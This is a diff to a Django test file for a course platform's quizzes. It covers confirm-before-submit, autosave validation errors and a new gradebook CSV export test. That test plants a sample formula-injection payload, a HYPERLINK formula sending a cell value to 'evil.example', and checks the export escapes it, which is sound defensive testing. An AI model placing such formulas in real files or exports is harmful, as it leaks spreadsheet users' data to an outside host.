@@ -31,7 +31,7 @@ def quiz(in_tenant, learner):
 
 
 def _form_data(assessment, right=True) -> dict:
-    data = {}
+    data = {"form": "attempt"}
     for question_id, response in answers_for(assessment, right=right).items():
         value = next(iter(response.values()))
         data[f"q{question_id}"] = [str(v) for v in value] if isinstance(value, list) else str(value).lower()
@@ -58,11 +58,14 @@ def test_lesson_page_links_to_the_quiz_and_the_learner_takes_it(
     assert take.status_code == 200 and "Capital of France?" in body and "data-answers-url" in body
     form = _form_data(assessment)
     with django_assert_max_num_queries(25):  # not one query per question
-        done = client.post(f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/", form)
+        summary = client.post(f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/", form)
+    assert summary.status_code == 200 and "You answered all 5 questions." in summary.content.decode()
+    with django_assert_max_num_queries(25):
+        done = client.post(f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/", {"confirm": "1"})
     assert done.status_code == 302
     result = client.get(done["Location"]).content.decode()
-    assert "Score: 100.00 of 100.00. You passed!" in result
-    assert "data-score>100" in result and "right answer" in result  # AFTER_LAST: shown after passing
+    assert "Handed in. You passed with 100 of 100 (5 of 5 points)." in result
+    assert "data-score>100 of 100" in result and "right answer" in result  # AFTER_LAST: shown after passing
     again = client.post(
         f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/", _form_data(assessment, False)
     )
@@ -90,8 +93,9 @@ def test_autosave_api_saves_answers_and_refuses_bad_input_with_json_errors(quiz,
     assert post("not json").status_code == 400
     assert post({"answers": []}).status_code == 400
     wrong_choice = post({"answers": {str(single.pk): {"choice": other_choice.pk}}})
-    assert wrong_choice.status_code == 400 and "does not belong" in wrong_choice.json()["error"]
-    assert post({"answers": {"999999": {"choice": 1}}}).status_code == 400
+    assert wrong_choice.status_code == 422 and "does not belong" in wrong_choice.json()["error"]
+    assert wrong_choice.json()["errors"].keys() == {str(single.pk)}
+    assert post({"answers": {"999999": {"choice": 1}}}).json()["errors"].keys() == {"999999"}
     huge = post({"answers": {str(single.pk): {"text": "x" * 70_000}}})
     assert huge.status_code == 413
     assert Answer.objects.get(attempt=attempt).response == {"choice": single.choices.first().pk}
@@ -99,7 +103,7 @@ def test_autosave_api_saves_answers_and_refuses_bad_input_with_json_errors(quiz,
     instructor = client_for(in_tenant, as_role="instructor")
     assert instructor.post(url, "{}", content_type="application/json").status_code == 404
     assert instructor.get(f"/assessments/{course.slug}/attempts/{attempt.pk}/").status_code == 404
-    client.post(f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/")
+    client.post(f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/", {"confirm": "1"})
     closed = post({"answers": {str(single.pk): {"choice": single.choices.last().pk}}})
     assert closed.status_code == 409 and "already submitted" in closed.json()["error"]
 
@@ -210,3 +214,18 @@ def test_a_quiz_lesson_without_questions_yet_says_so(in_tenant, learner):
     assert client.post(f"/assessments/{course.slug}/lessons/{lesson.pk}/start/").status_code == 404
     reading = Lesson.objects.get(module__course=course, kind="text")
     assert client.get(f"/assessments/{course.slug}/lessons/{reading.pk}/").status_code == 404
+
+
+def test_gradebook_csv_neutralizes_a_formula_in_a_lesson_title(in_tenant, learner):
+    """A quiz lesson titled like a formula is text in the export's header (it ran as one before)."""
+    from courses.models import Lesson
+
+    course, lesson, _ = make_assessed_course(slug="formula-book", publish=False)
+    Lesson.objects.filter(pk=lesson.pk).update(title='=HYPERLINK("https://evil.example/?"&B2)')
+    from courses.services import course_publish
+
+    course_publish(actor=get_user_model().objects.get(email="admin@acme.test"), course=course)
+    enrollment_create(user=learner, course=course)
+    exported = client_for(in_tenant, as_role="admin").get(f"/assessments/{course.slug}/gradebook/?format=csv")
+    header = next(csv.reader(io.StringIO(exported.content.decode())))
+    assert header[2].startswith("'=HYPERLINK(")
